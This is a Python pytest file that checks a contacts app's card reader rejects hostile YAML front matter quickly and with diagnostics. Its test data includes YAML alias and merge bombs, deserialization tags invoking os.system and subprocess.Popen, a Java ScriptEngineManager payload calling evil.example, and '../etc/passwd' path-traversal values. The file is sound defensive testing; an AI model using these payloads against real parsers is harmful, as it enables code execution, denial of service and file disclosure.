"""Hostile front matter: every document is told for what it is, and none takes more than 50 ms."""

from __future__ import annotations

from time import process_time

import pytest

from intouch.reading.files import LARGEST, FileKind, SourceFile
from intouch.reading.record import Record
from intouch.reading.records import read_card
from steps import steps

MOST_SECONDS = 0.05
MOST_STEPS = 100_000


def aliases(levels: int, width: int = 9) -> str:
    """Each list holds the one before it several times: width to the power of levels values."""
    first = "a0: &a0 [" + ", ".join(["x"] * width) + "]"
    rest = [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * width)}]" for n in range(1, levels)]
    return "\n".join([first, *rest])


def merges(levels: int) -> str:
    """Each mapping merges the one before it twice."""
    rest = [f"m{n}: &m{n} {{<<: [*m{n - 1}, *m{n - 1}]}}" for n in range(1, levels)]
    return "\n".join(["m0: &m0 {x: 1}", *rest])


N = 60_000

HOSTILE: dict[str, str] = {
    "an alias bomb": aliases(9),
    "a wide alias bomb": aliases(4, 90),
    "an alias bomb of 30 levels": aliases(30, 2),
    "a merge bomb": merges(25),
    "an alias to itself": "a: &a [*a]",
    "a mapping that holds itself": "a: &a {b: *a}",
    "an anchor": "name: &n Bob",
    "ten thousand anchors": "\n".join(f"k{n}: &a{n} x" for n in range(5_000)),
    "an alias to nothing": "name: *nobody",
    "a Python object": "name: !!python/object:os.system [ls]",
    "a Python call": "name: !!python/object/apply:os.system ['touch /tmp/owned']",
    "a Python module": "name: !!python/module:os",
    "a Python name": "name: !!python/name:os.system",
    "a Python object made anew": "name: !!python/object/new:subprocess.Popen [[ls]]",
    "a Java object": "name: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://evil.example/']]",
    "a Ruby object": "name: !ruby/object:Gem::Installer\n  i: x",
    "a set": "tags: !!set {a, b}",
    "bytes": "name: !!binary R0lGODlhDAAMAIQ=",
    "a tag of one's own": "name: !mine Bob",
    "a tag that is declared": "%TAG ! tag:evil.example,2026:\n---\nname: !x Bob",
    "nested lists": "tags: " + "[" * N,
    "nested mappings": "tags: " + "{a: " * (N // 4),
    "nested and closed": "tags: " + "[" * 30_000 + "]" * 30_000,
    "nested blocks": "\n".join(" " * n + "a:" for n in range(300)),
    "nested dashes": "tags:\n  " + "- " * 20_000 + "a",
    "question marks": "? " * 20_000 + "a",
    "nested thirteen deep": "tags: " + "[" * 13 + "]" * 13,
    "many values": "tags: [" + "a, " * 15_000 + "]",
    "many keys": "\n".join(f"x-{n}: 1" for n in range(5_000)),
    "many empty values": "tags: [" + "," * N + "]",
    "a key a thousand times": "name: Bob\n" * 5_000,
    "a long key": "k" * N + ": x",
    "a long key with a question mark": "? " + "k" * 2_000 + "\n: v",
    "a mapping as a key": "? {a: b}\n: v",
    "a long value": "name: " + "x" * N,
    "a long quoted value": 'name: "' + "\\x41" * (N // 4) + '"',
    "an endless quoted value": 'name: "' + "x" * N,
    "an endless folded value": "name: >\n" + "  x\n" * (N // 4),
    "many empty lines": "name: |\n" + "\n" * N,
    "a long comment": "name: Bob # " + "#" * N,
    "many comments": "# x\n" * (N // 4) + "name: Bob",
    "much indentation": "name:\n" + " " * N + "Bob",
    "colons": "name: " + ": " * (N // 2),
    "colons without spaces": "name: " + ":" * N,
    "quotes": "name: " + "'" * N,
    "backslashes": 'name: "' + "\\\\" * (N // 2) + '"',
    "bad escapes": 'name: "' + "\\q" * (N // 2) + '"',
    "an undone escape": 'name: "\\xZZ"',
    "escaped line ends": 'name: "' + "\\n" * (N // 2) + '"',
    "half a surrogate pair": 'name: "\\ud83d"',
    "a NUL": 'name: "\\0"',
    "a second document": "name: Bob\n--- {fit: 3}",
    "many documents": "--- a\n" * (N // 6),
    "many ends": "name: Bob\n" + "...\n" * (N // 4),
    "directives": "%YAML 9.9\n" * (N // 10),
    "impossible dates": "met: 2026-02-31\npaused_until: 0000-00-00\nnext: 9999-99-99 x",
    "a date of many digits": "met: " + "9" * N,
    "a number of many digits": "fit: " + "9" * N,
    "numbers to the base of sixty": "fit: " + "1:" * (N // 2) + "1",
    "infinity": "fit: .inf\ncadence: .nan",
    "a cadence of many words": "cadence: " + "every " * (N // 6),
    "a cadence of many digits": "cadence: every " + "9" * N + " months",
    "an address without end": "email: " + "a@" * (N // 2),
    "an address of full stops": "email: a@" + "." * N,
    "an address of quotes": "email: '\"" + "\\" * N + "@b.example'",
    "a link without end": "website: https://" + "a." * (N // 2),
    "a link of percent signs": "website: https://a.example/" + "%" * N,
    "a link of brackets": "website: http://" + "[" * N,
    "a time zone that is a path": "timezone: ../../../../etc/passwd",
    "a time zone without end": "timezone: " + "A/" * (N // 2),
    "people that are paths": "introduced_by: ../../../etc/passwd",
    "a birthday of signs": "birthday: " + "-" * N,
    "tags of one letter": "tags: " + "a" * N,
    "tabs": "name:\t" + "\t" * N + "Bob",
    "another kind of line end": "name: Bob\x85" + "x\x85" * 10_000,
    "line separators": "name: Bob\u2028" + "x\u2028" * 10_000,
    "byte order marks": "\ufeff" * 1_000 + "name: Bob",
    "bidi controls": "name: " + "\u202e" * (N // 3),
    "combining marks": "name: e" + "\u0301" * (N // 2),
}

FINE = {
    *("a long value", "a long quoted value", "an endless folded value", "a long comment", "many comments"),
    *("much indentation", "quotes", "backslashes", "many ends", "tabs", "another kind of line end"),
    *("line separators", "bidi controls", "combining marks"),
}
"""Odd, and no fault: these are values, and shown as such."""


def read(front: str) -> Record:
    return read_card(SourceFile("contacts/bob.md", FileKind.CARD, "bob", f"---\n{front}\n---\nHello.\n"))


def measured(front: str) -> tuple[Record, float]:
    start = process_time()
    record = read(front)
    return record, process_time() - start


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_front_matter_is_quick_and_told(name: str) -> None:
    """The bound is one of the processor's time; of three readings the quickest, for machines are busy."""
    front = HOSTILE[name]
    assert len(front) < LARGEST
    readings = [measured(front) for _ in range(3)]
    assert min(seconds for _, seconds in readings) < MOST_SECONDS
    assert steps(lambda: read(front)) < MOST_STEPS
    record, _ = readings[0]
    assert record.contact is not None
    assert bool(record.diagnostics) is (name not in FINE)
    assert all(problem.remedy for problem in record.diagnostics)
